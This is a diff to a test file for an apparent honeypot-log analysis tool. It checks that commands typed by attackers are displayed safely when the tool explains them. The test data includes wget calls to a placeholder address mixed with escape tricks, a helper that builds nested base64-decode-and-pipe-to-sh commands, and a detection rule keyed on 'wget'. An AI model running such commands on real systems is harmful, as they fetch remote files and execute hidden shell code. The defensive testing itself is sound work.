@@ -1,5 +1,5 @@
 import { createHash, randomBytes } from 'node:crypto'
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -9,8 +9,10 @@ import type { TagRow } from '../src/exports/tag-row.js'
 import { EventPipeline } from '../src/pipeline/event-pipeline.js'
 import { commandLog, cowrieLine } from './support/cowrie-line.js'
 import { parseCsv } from './support/parse-csv.js'
-import { linesOf, runCli } from './support/run-cli.js'
+import { ruleText } from './support/rule-text.js'
+import { type CliOptions, type CliResult, linesOf, runCli } from './support/run-cli.js'
 import { commandEvent } from './support/tagging.js'
+import { writeFiles } from './support/write-files.js'
 
 /** For steps that run the program several times, in milliseconds. */
 const PATIENCE = 60_000
@@ -325,13 +327,13 @@ describe('what attackers type is made safe where it is shown', () => {
 
   it('in explanations of commands, lines and kept tags', async () => {
     const explanations = await Promise.all([
-      ...tricks.slice(0, 4).map((trick) => runCli(['explain', `wget http://203.0.113.9/${trick}; uname ${trick}`])),
-      runCli(['explain', '-', '--why', 'R0018'], { stdin: tricks.join('; uname ') }),
-      runCli(['explain', '--kind', 'http_request', JSON.stringify({ path: tricks.join(), [tricks.join()]: tricks })]),
-      runCli(['explain', '--line', `${log}:1`]),
-      runCli(['explain', '--line', `${log}:6`]),
-      runCli(['explain', '--line', `${log}:7`]),
-      runCli([
+      explain([tricks.map((trick) => `wget http://203.0.113.9/${trick}; uname ${trick}`).join('; ')]),
+      explain(['-', '--why', 'R9001'], { stdin: tricks.join('; uname ') }),
+      explain(['--kind', 'http_request', JSON.stringify({ path: tricks.join(), [tricks.join()]: tricks })]),
+      explain(['--line', `${log}:1`]),
+      explain(['--line', `${log}:6`]),
+      explain(['--line', `${log}:7`]),
+      explain([
         'explain',
         '--tag',
         rows.find((row) => row.session_id?.includes('\u202e'))!.uuid,
@@ -490,6 +492,14 @@ function nestedBase64(depth: number): string {
   let command = 'uname -a'
   for (let level = 0; level < depth; level++) command = `echo ${Buffer.from(command).toString('base64')}|base64 -d|sh`
   return command
+}
+
+/** Explains by one small rule: which rules there are is no matter here. */
+function explain(args: readonly string[], options: CliOptions = {}): Promise<CliResult> {
+  const rules = join(folder, 'rules')
+  if (!existsSync(rules))
+    writeFiles(rules, { 'R9001.yaml': ruleText({ id: 'R9001', match: '{ field: command_text, contains: wget }' }) })
+  return runCli(['explain', ...args, '--rules', rules], options)
 }
 
 function fileOf(name: string, content: string): string {
